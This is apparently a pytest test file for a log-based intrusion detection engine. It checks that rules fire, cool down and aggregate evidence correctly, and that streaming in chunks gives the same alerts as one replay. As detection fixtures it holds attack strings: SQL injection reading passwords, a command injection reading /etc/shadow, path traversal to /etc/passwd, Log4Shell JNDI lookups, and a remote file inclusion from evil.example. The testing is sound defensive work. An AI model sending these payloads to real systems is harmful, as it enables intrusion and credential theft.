"""Signatures and behaviour rules on hand-built events: what fires, when, with what evidence, and only once."""

from __future__ import annotations

import itertools
import random

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alerts.alert import alert_id
from alerts.engine import Detector, replay
from alerts.observe import Observer, stable_hash
from tests.alerts.events import T0, access, batch, error, error_batch


def run(rules, *batches, dataset="access"):
    observer = Observer(rules, dataset)
    return replay(rules, [h for b in batches for h in observer.observe(b)])


def by_rule(alerts, rule_id):
    return [a for a in alerts if a["rule_id"] == rule_id]


def test_a_slow_sqli_probe_alerts_on_its_first_request_then_cools_down(default_rules):
    rows = [access(i, url=f"/item?id={i}%27%20UNION%20SELECT%20password%20FROM%20users--") for i in range(5)]
    rows.append(access(3600, url="/item?id=1+UNION/**/SELECT+1,2"))  # an hour later: past the 10 min cool-down
    alerts = by_rule(run(default_rules, batch(rows)), "http-sqli")
    assert [a["first_seen"] for a in alerts] == [T0, T0.replace(hour=13)]
    first = alerts[0]
    assert first["source_ip"] == "203.0.113.9" and first["severity"] == "high" and first["technique"] == "T1190"
    (evidence,) = first["evidence"]
    assert evidence["log_file_path"] == "/var/log/test.log" and evidence["log_offset"] == 0
    assert "UNION%20SELECT" in evidence["line"]


@pytest.mark.parametrize(
    ("rule_id", "event"),
    [
        ("http-path-traversal", access(0, url="/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd")),
        ("http-path-traversal", access(0, url="/a/..%c0%af..%c0%afetc/passwd")),
        ("http-xss", access(0, url="/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E")),
        ("http-command-injection", access(0, url="/ping?host=127.0.0.1;cat%20/etc/shadow")),
        ("http-log4shell", access(0, url="/", agent="${jndi:ldap://x.example/a}")),
        ("http-log4shell", access(0, url="/", http_request_referrer="${${lower:j}ndi:ldap://x/a}")),
        ("http-sensitive-file", access(0, url="/.git/config", status=404)),
        ("http-sensitive-file", access(0, url="/.env", status=404)),
        ("http-web-shell", access(0, url="/uploads/c99.php", status=404)),
        ("http-scanner-user-agent", access(0, agent="sqlmap/1.7.2#stable (https://sqlmap.org)")),
        ("http-rfi", access(0, url="/index.php?page=http://evil.example/shell.txt?")),
        ("http-cve-probe", access(0, url="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST")),
    ],
)
def test_signatures_catch_one_request(default_rules, rule_id, event):
    assert by_rule(run(default_rules, batch([event])), rule_id)


def test_benign_requests_raise_nothing(default_rules):
    rows = [
        access(0, url="/blog/2015/05/select-from-where-explained.html"),
        access(1, url="/search?q=union+station+opening+hours"),
        access(2, url="/static/app.js?v=3"),
        access(3, url="/docs/config.html", http_request_referrer="https://www.google.com/"),
        access(4, url="/login", method="POST", status=302),
    ]
    assert run(default_rules, batch(rows)) == []


def test_brute_force_needs_more_than_capacity_within_the_leak(default_rules):
    five = [access(i, url="/admin", status=401, user_name="admin") for i in range(5)]
    assert not by_rule(run(default_rules, batch(five)), "http-auth-bruteforce")
    six = [*five, access(5, url="/admin", status=401, user_name="admin")]
    (alert,) = by_rule(run(default_rules, batch(six)), "http-auth-bruteforce")
    assert (alert["count"], alert["first_seen"], len(alert["evidence"])) == (6, T0, 5)


def test_credential_stuffing_counts_distinct_users(default_rules):
    rows = [access(i * 20, url="/api", status=401, user_name=f"user{i % 5}") for i in range(12)]
    (alert,) = by_rule(run(default_rules, batch(rows)), "http-credential-stuffing")
    assert sorted(alert["distinct_sample"]) == [f"user{i}" for i in range(5)]
    same_user = [access(i * 20, url="/api", status=401, user_name="bob") for i in range(12)]
    assert not by_rule(run(default_rules, batch(same_user)), "http-credential-stuffing")


def test_one_account_attacked_from_many_addresses(default_rules):
    rows = [access(i * 30, ip=f"192.0.2.{i}", url="/api", status=401, user_name="alice") for i in range(5)]
    (alert,) = by_rule(run(default_rules, batch(rows)), "http-account-attacked")
    assert alert["user_name"] == "alice" and alert["source_ip"] is None and len(alert["distinct_sample"]) == 5


def test_request_flood(default_rules):
    rows = [access(i * 0.4, url=f"/page/{i % 7}") for i in range(130)]
    (alert,) = by_rule(run(default_rules, batch(rows)), "http-request-flood")
    assert alert["count"] == 120 and alert["first_seen"] == T0
    polite = [access(i * 0.6, url=f"/page/{i % 7}") for i in range(130)]  # 100 a minute
    assert not by_rule(run(default_rules, batch(polite)), "http-request-flood")


def test_forms_at_machine_speed(default_rules):
    rows = [access(i * 0.5, url="/signup", method="POST", status=200) for i in range(5)]
    assert by_rule(run(default_rules, batch(rows)), "http-form-bot")


def test_error_log_rules_on_error_events(default_rules):
    rows = [error(i, 'user bob: authentication failure for "/private": Password Mismatch') for i in range(5)]
    rows += [error(10 + i, 'limiting requests, excess: 1.852 by zone "one"', ip="192.0.2.50") for i in range(5)]
    rows += [error(30, "Invalid URI in request GET /cgi-bin/.%2e/%2e%2e/etc/passwd HTTP/1.1", ip="192.0.2.77",
                   error_code="AH00126")]  # fmt: skip
    alerts = run(default_rules, error_batch(rows), dataset="error")
    assert {(a["rule_id"], a["source_ip"]) for a in alerts} == {
        ("error-auth-failure", "198.51.100.7"),
        ("error-rate-limited", "192.0.2.50"),
        ("error-invalid-uri", "192.0.2.77"),
    }
    assert alerts[0]["evidence"][0]["line"].startswith("[")


def test_error_log_probe_paths_match_the_file_path_apache_names_in_any_case(default_rules):
    # Apache names only the file; the probe-path list is matched against it normalised (lowercase, decoded).
    rows = [error(i, "File does not exist: /var/www/html/phpMyAdmin", ip="192.0.2.8") for i in range(2)]
    rows += [error(5 + i, "File does not exist: /var/www/html/forum/mail.php", ip="192.0.2.9") for i in range(2)]
    alerts = run(default_rules, error_batch(rows), dataset="error")
    assert {(a["rule_id"], a["source_ip"]) for a in alerts} == {("error-probe-paths", "192.0.2.8")}


def test_alert_id_depends_on_rule_key_and_start_only():
    assert alert_id("r", "1.2.3.4", 5) == alert_id("r", "1.2.3.4", 5)
    assert len({alert_id("r", "1.2.3.4", 5), alert_id("r", "1.2.3.4", 6), alert_id("q", "1.2.3.4", 5)}) == 3


def _mixed_traffic(seed: int) -> list[dict]:
    rng = random.Random(seed)
    rows, t = [], 0.0
    for n in range(400):
        t += 0.2 if 150 <= n < 330 else rng.choice([0.05, 0.3, 1, 5, 40])  # a flood in the middle
        ip = "192.0.2.99" if 150 <= n < 330 else f"192.0.2.{rng.randrange(6)}"
        kind = rng.random()
        if kind < 0.1:
            rows.append(access(t, ip=ip, url="/q?id=1%27%20or%20%271%27=%271"))
        elif kind < 0.3:
            rows.append(access(t, ip=ip, url=f"/missing/{rng.randrange(30)}", status=404))
        elif kind < 0.45:
            rows.append(access(t, ip=ip, url="/wp-login.php", method="POST", status=200))
        else:
            rows.append(access(t, ip=ip, url=f"/page/{rng.randrange(9)}"))
    return rows


def _batch_at(rows, first_line):
    """A batch whose offsets continue the file at ``first_line``, as the reader would cut it."""
    b = batch(rows)
    offsets = pa.array([100 * (first_line + i) for i in range(len(rows))], pa.int64())
    return b.set_column(b.schema.get_field_index("log_offset"), "log_offset", offsets)


def _without_detected_at(alerts):
    """Everything but the wall-clock ``detected_at`` and the evidence *text*: a line is quoted only when its
    batch still held it (the first rows of each key), while its file and offset are always exact."""
    return sorted(
        str({**{k: v for k, v in a.items() if k != "detected_at"}, "evidence": [
            (e["log_file_path"], e["log_offset"], e["timestamp"]) for e in a["evidence"]]})
        for a in alerts
    )  # fmt: skip


@settings(max_examples=25, deadline=None)
@given(seed=st.integers(0, 10_000), cuts=st.lists(st.integers(1, 399), max_size=6), every=st.integers(1, 4))
def test_chunking_and_watermarks_do_not_change_the_alerts(default_rules, seed, cuts, every):
    """Batches cut anywhere, folded at any watermark steps: the same alerts as one replay (ids, times, counts)."""
    rows = _mixed_traffic(seed)
    observer = Observer(default_rules, "access")
    whole = replay(default_rules, observer.observe(batch(rows)))
    bounds = [0, *sorted(set(cuts)), len(rows)]
    detector, streamed = Detector(default_rules), []
    for index, (a, b) in enumerate(itertools.pairwise(bounds)):
        if b <= a:
            continue
        detector.add(observer.observe(_batch_at(rows[a:b], a)))
        if index % every == 0:  # the watermark: everything before this batch's first event is complete
            streamed += detector.flush(int(rows[a]["timestamp"].timestamp() * 1_000_000) - 1)
    streamed += detector.flush(None)
    assert any(a["rule_id"] == "http-request-flood" for a in whole)
    assert _without_detected_at(streamed) == _without_detected_at(whole)


def test_shards_are_stable_across_arrays_and_processes():
    keys = pa.array(["192.0.2.1", "2001:db8::1", "", "x" * 300, "192.0.2.1"])
    first = stable_hash(keys)
    assert first[0] == first[4] and len(set(first.tolist())) == 4
    assert stable_hash(keys.slice(1, 3)).tolist() == first[1:4].tolist()
    assert stable_hash(pa.array(["192.0.2.1"])).tolist() == [int(first[0])]
    assert (
        stable_hash(pa.array(["192.0.2.1"]))[0] == 0x19A06957FD116543
    )  # pinned: shards must not move between versions
